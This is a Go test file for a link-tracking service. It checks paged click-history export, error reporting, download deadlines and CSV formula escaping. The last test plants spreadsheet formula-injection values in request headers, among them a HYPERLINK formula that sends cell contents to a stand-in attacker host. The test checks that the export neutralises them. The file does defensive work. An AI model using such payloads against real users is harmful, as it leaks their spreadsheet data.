package linktrack_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/linktrackhq/linktrack"
	"github.com/linktrackhq/linktrack/internal/trackertest"
	"github.com/linktrackhq/linktrack/memstore"
)

// chunks keeps what is written, and the size of the largest write.
type chunks struct {
	bytes.Buffer
	largest int
	store   *trackertest.FaultyStore
	atPage  []int64 // how many pages had been read at each write
}

func (c *chunks) Write(b []byte) (int, error) {
	c.largest = max(c.largest, len(b))
	c.atPage = append(c.atPage, c.store.Reads.Load())
	return c.Buffer.Write(b)
}

func TestAnExportHasEachClickOnceInOrder(t *testing.T) {
	store := &trackertest.FaultyStore{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	const n = 50_000
	want := s.RecordMany(l, n)
	for _, f := range []linktrack.Format{linktrack.FormatCSV, linktrack.FormatJSON} {
		store.Reads.Store(0)
		out := &chunks{store: store}
		require.NoError(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, out))
		require.LessOrEqual(t, store.LargestRead.Load(), int64(1000), "a part is read at a time")
		require.LessOrEqual(t, out.largest, 64<<10, "a part is written at a time")
		require.LessOrEqual(t, out.atPage[0], int64(2), "what is read is written before the rest is read")
		require.Greater(t, len(out.atPage), 50)
		require.Equal(t, want, trackertest.ExportedIDs(t, f, out), f)
	}
}

func TestAnAppReadsAHistoryOfAnyLength(t *testing.T) {
	store := &trackertest.FaultyStore{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	want := s.RecordMany(l, 2500)
	var got []string
	for c, err := range s.Tracker.Clicks(t.Context(), s.Account, l.Path, linktrack.ClickRange{}) {
		require.NoError(t, err)
		got = append(got, c.ID.String())
	}
	require.Equal(t, want, got)
	store.Reads.Store(0)
	for range s.Tracker.Clicks(t.Context(), s.Account, l.Path, linktrack.ClickRange{}) {
		break
	}
	require.EqualValues(t, 1, store.Reads.Load(), "what nobody asks for is not read")
	for _, account := range []linktrack.Account{s.Account, {ID: s.Account.ID + 1}} {
		path := map[bool]string{true: "nothing", false: l.Path}[account.ID == s.Account.ID]
		n := 0
		for _, err := range s.Tracker.Clicks(t.Context(), account, path, linktrack.ClickRange{}) {
			n++
			require.ErrorIs(t, err, linktrack.ErrNotFound)
		}
		require.Equal(t, 1, n)
	}
}

type failingWriter struct{ err error }

func (w failingWriter) Write([]byte) (int, error) { return 0, w.err }

func TestAnExportThatFailsSaysSo(t *testing.T) {
	store := &trackertest.FaultyStore{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	s.RecordMany(l, 3000)
	for _, f := range []linktrack.Format{linktrack.FormatCSV, linktrack.FormatJSON} {
		var b bytes.Buffer
		store.Reads.Store(0)
		store.FailReadsFrom.Store(1)
		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, &b), linktrack.ErrUnavailable)
		require.Zero(t, b.Len(), "nothing is written before the first part is read")
		store.Reads.Store(0)
		store.FailReadsFrom.Store(3)
		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, &b), linktrack.ErrUnavailable)
		require.NotZero(t, b.Len())
		require.False(t, json.Valid(b.Bytes()), "nobody takes a part for the whole")
		store.FailReadsFrom.Store(0)
		full := errors.New("the disk is full")
		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, failingWriter{full}), full)
	}
	var inv *linktrack.InvalidError
	require.ErrorAs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, "xml", io.Discard), &inv)
	require.Equal(t, "format", inv.Param)
	require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, "nothing", linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), linktrack.ErrNotFound)
	require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), linktrack.Account{ID: -5}, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), linktrack.ErrNotFound)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	require.ErrorIs(t, s.Tracker.ExportHistory(ctx, s.Account, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), context.Canceled)
}

// deadlines is a ResponseWriter that sees how long each write may take.
type deadlines struct {
	*httptest.ResponseRecorder
	writes int
	next   []time.Duration // from the time it was set on
	all    []time.Duration
}

func (d *deadlines) SetWriteDeadline(at time.Time) error {
	d.next = append(d.next, time.Until(at))
	return nil
}

func (d *deadlines) Write(b []byte) (int, error) {
	d.writes++
	d.all = append(d.all, d.next...)
	d.next = nil
	return d.ResponseRecorder.Write(b)
}

func TestADownloadMayTakeLongerThanTheServersLimit(t *testing.T) {
	store := &trackertest.FaultyStore{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	want := s.RecordMany(l, 3000)
	for _, limit := range []time.Duration{30 * time.Second, 0} {
		w := &deadlines{ResponseRecorder: httptest.NewRecorder()}
		ctx := context.WithValue(t.Context(), http.ServerContextKey, &http.Server{WriteTimeout: limit})
		s.Handler.ServeHTTP(w, trackertest.Request(http.MethodGet, "/api/v1_0/exportHistory?login="+trackertest.Login+"&pass="+trackertest.Pass+"&redirect_hash="+l.Path, "").WithContext(ctx))
		require.Equal(t, want, trackertest.ExportedIDs(t, linktrack.FormatCSV, w.Body))
		if limit == 0 {
			require.Empty(t, w.all, "without a limit there is none to move")
			continue
		}
		require.Greater(t, w.writes, 3)
		require.Len(t, w.all, w.writes, "each write has its time")
		for _, d := range w.all {
			require.InDelta(t, limit, d, float64(20*time.Second))
		}
	}
}

func TestTextsOfStrangersAreNoFormulas(t *testing.T) {
	s := trackertest.NewService(t, memstore.New(), linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{VanityLink: "spring", LinkSettings: linktrack.LinkSettings{Title: "@SUM(1)"}})
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	r := s.Get("/spring?"+"=cmd", "Referer", "-2+3;=1+1", "User-Agent", hostile)
	require.Equal(t, http.StatusFound, r.StatusCode)
	r = s.Call("getLinkHistory", trackertest.Values("redirect_hash", "spring", "format", "csv"))
	require.Equal(t, 200, r.StatusCode)
	require.Equal(t, "text/csv; charset=utf-8; header=present", r.Header.Get("Content-Type"))
	var b bytes.Buffer
	require.NoError(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, &b))
	body := trackertest.Text(t, r)
	require.Equal(t, b.String(), body, "the call and the export write alike")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	require.Equal(t, "'-2+3;'=1+1", rows[1][3])
	require.Equal(t, "'"+hostile, rows[1][5])
	require.Equal(t, "'=cmd", rows[1][10])
	r = s.Call("getReport", trackertest.Values("redirect_hash", "spring", "format", "csv"))
	require.Contains(t, trackertest.Text(t, r), "title,'@SUM(1),")
	require.Equal(t, 400, s.Call("getLinkHistory", trackertest.Values("redirect_hash", "spring", "format", "csv", "limit", "1001")).StatusCode, "the limit of a call stays")
}
